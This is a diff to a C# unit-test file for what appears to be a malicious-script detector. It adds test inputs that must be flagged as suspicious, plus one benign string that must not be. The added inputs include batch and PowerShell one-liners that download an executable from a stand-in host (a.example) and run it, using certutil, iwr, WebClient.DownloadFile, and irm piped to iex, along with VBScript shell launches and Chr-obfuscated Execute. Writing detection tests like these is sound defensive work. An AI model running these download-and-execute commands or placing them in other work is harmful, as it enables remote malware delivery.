@@ -45,6 +45,12 @@ public sealed class ScriptFileTests
     [InlineData("a = (1, this);\nfunction String.prototype.run() { return 'Shell'; }\n"
         + "b = new a[('x', 'ActiveXObject')]('WScript.' + ''.run());\n(b)['Run']('calc');\n"
         + "new ActiveXObject('WScript.Shell').Run('x');", "a.js")]
+    [InlineData("certutil -urlcache -split -f http://a.example/x.exe x.exe & start x.exe", "a.bat")]
+    [InlineData("iwr http://a.example/x.exe -OutFile x.exe; Start-Process x.exe", "a.ps1")]
+    [InlineData("($d=$env:temp+'\\a.exe');(New-Object Net.WebClient).DownloadFile('http://a.example/a',$d);Start-Process $d", "a.ps1")]
+    [InlineData("$x = irm http://a.example/x\n$x | iex\nWrite-Host done\n", "a.ps1")]
+    [InlineData("Execute(Chr(77)&Chr(115)&Chr(103))", "a.vbs")]
+    [InlineData("dim h:set h=createobject(\"WScript.Shell\"):h.run \"calc\"", "a.vbs")]
     [InlineData("/*@cc_on\n  @if (@_win32)\n new ActiveXObject('WScript.Shell').Run('calc');\n @end @*/", "a.js")]
     public void Complete_ScriptThatActs_IsSuspiciousByItselfAndInside(string script, string name)
     {
@@ -72,6 +78,7 @@ public sealed class ScriptFileTests
         + "      [Net.ServicePointManager]::X = 1\n      (New-Object Net.WebClient)\n")]
     [InlineData("<component name=\"ProjectCodeStyleConfiguration\">\n  <state><option name=\"A\" value=\"B\" /></state>\n</component>")]
     [InlineData("<component type=\"desktop-application\"><id>org.example.App</id><name>App</name></component>")]
+    [InlineData("rundll32 is a program of Windows")]
     [InlineData("$5 (five dollars)\n$10 = ten dollars\n$20 | twenty\n")]
     [InlineData("a::selection { color: red }\n::selection { color: blue }\n")]
     [InlineData("/* a style sheet */\nbody { margin: 0 }\n")]
